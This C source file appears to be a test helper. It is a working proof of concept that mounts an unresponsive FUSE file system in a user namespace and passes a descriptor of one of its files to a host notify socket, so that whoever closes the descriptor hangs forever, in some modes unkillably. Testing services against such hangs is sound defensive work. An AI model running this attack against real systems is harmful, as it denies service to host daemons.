/* SPDX-License-Identifier: LGPL-2.1-or-later */

/*
 * Any user of a machine: mounts FUSE in a user namespace of its own, sends a descriptor of a
 * file of it to the notify socket, and never answers FLUSH: whoever closes that descriptor waits
 * for ever.
 *
 * The file system is served by a process of its own, or with the argument "alone" by a thread of
 * the one that has the file open, which then cannot even be killed. Prints the device number of
 * the mount, by which the host can abort the connection, then "sent". / */

#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/fuse.h>
#include <pthread.h>
#include <sched.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

static int device_fd;

static void fail(const char *what) {
        printf("failed: %s: %s\n", what, strerror(errno));
        fflush(stdout);
        _exit(77);
}

static void put(const char *path, const char *text) {
        int fd = open(path, O_WRONLY);

        if (fd < 0 || write(fd, text, strlen(text)) < 0)
                fail(path);
        close(fd);
}

static void answer(uint64_t unique, const void *data, size_t size) {
        char buffer[4096];
        struct fuse_out_header header = { .len = (uint32_t)(sizeof header + size),
                .unique = unique };

        memcpy(buffer, &header, sizeof header);
        memcpy(buffer + sizeof header, data, size);
        if (write(device_fd, buffer, header.len) < 0)
                fail("answer");
}

static struct fuse_attr attributes(uint64_t node) {
        return (struct fuse_attr){
                .ino = node,
                .mode = node == 1 ? S_IFDIR | 0777 : S_IFREG | 0666,
                .nlink = 1,
        };
}

static void serve_one(const char *request) {
        struct fuse_in_header header;

        memcpy(&header, request, sizeof header);
        switch (header.opcode) {
        case FUSE_INIT: {
                struct fuse_init_out out = { .major = 7, .minor = 31, .max_write = 4096 };
                answer(header.unique, &out, sizeof out);
                break;
        }
        case FUSE_GETATTR: {
                struct fuse_attr_out out = { .attr = attributes(header.nodeid) };
                answer(header.unique, &out, sizeof out);
                break;
        }
        case FUSE_LOOKUP: {
                struct fuse_entry_out out = { .nodeid = 2, .attr = attributes(2) };
                answer(header.unique, &out, sizeof out);
                break;
        }
        case FUSE_OPEN: {
                struct fuse_open_out out = { .fh = 1, .open_flags = FOPEN_DIRECT_IO };
                answer(header.unique, &out, sizeof out);
                break;
        }
        default: /* FLUSH and RELEASE above all */
                break;
        }
}

static void *serve(void *unused) {
        char request[65536];

        (void)unused;
        while (read(device_fd, request, sizeof request) > 0)
                serve_one(request);
        return NULL;
}

static void send_fd(int fd) {
        struct sockaddr_un address = { .sun_family = AF_UNIX, .sun_path = "/run/host/notify" };
        union {
                struct cmsghdr header;
                char bytes[CMSG_SPACE(sizeof(int))];
        } control = { 0 };
        char word[] = "READY=1";
        struct iovec iov = { word, sizeof word - 1 };
        struct msghdr message = {
                .msg_name = &address,
                .msg_namelen = sizeof address,
                .msg_iov = &iov,
                .msg_iovlen = 1,
                .msg_control = &control,
                .msg_controllen = sizeof control,
        };
        int socket_fd = socket(AF_UNIX, SOCK_DGRAM, 0);

        control.header = (struct cmsghdr){
                .cmsg_len = CMSG_LEN(sizeof fd), .cmsg_level = SOL_SOCKET, .cmsg_type = SCM_RIGHTS
        };
        memcpy(CMSG_DATA(&control.header), &fd, sizeof fd);
        for (int i = 0; i < 3; i++)
                if (sendmsg(socket_fd, &message, 0) < 0)
                        fail("sendmsg");
}

/* Starts the server and comes back to the one who uses it. */
static void start_server(bool is_alone) {
        pthread_t thread;

        if (is_alone) {
                if (pthread_create(&thread, NULL, serve, NULL) != 0)
                        fail("pthread_create");
        } else if (fork() == 0) {
                serve(NULL);
                _exit(0);
        } else {
                /* With the server's death the connection ends, so nobody waits for ever. */
                close(device_fd);
        }
}

static void attack(bool is_alone) {
        char options[128], map[64];
        struct stat st;
        int fd;

        if (setresgid(1000, 1000, 1000) < 0 || setresuid(1000, 1000, 1000) < 0)
                fail("setresuid");
        (void)prctl(PR_SET_DUMPABLE, 1); /* or /proc/self would belong to root */
        if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0)
                fail("unshare");
        put("/proc/self/setgroups", "deny");
        snprintf(map, sizeof map, "0 1000 1");
        put("/proc/self/uid_map", map);
        put("/proc/self/gid_map", map);
        device_fd = open("/dev/fuse", O_RDWR | O_CLOEXEC);
        if (device_fd < 0)
                fail("/dev/fuse");
        snprintf(options, sizeof options, "fd=%d,rootmode=40000,user_id=0,group_id=0", device_fd);
        if (mount("evil", "/tmp", "fuse", MS_NOSUID | MS_NODEV, options) < 0)
                fail("mount");
        start_server(is_alone);
        if (stat("/tmp", &st) < 0)
                fail("stat");
        printf("device %u\n", minor(st.st_dev));
        fflush(stdout);
        fd = open("/tmp/file", O_RDWR | O_CLOEXEC);
        if (fd < 0)
                fail("open");
        send_fd(fd);
        printf("sent\n");
        fflush(stdout);
        for (;;)
                pause();
}

int main(int argc, char **argv) {
        (void)argv;
        if (fork() == 0)
                attack(argc > 1);
        for (;;)
                pause();
}
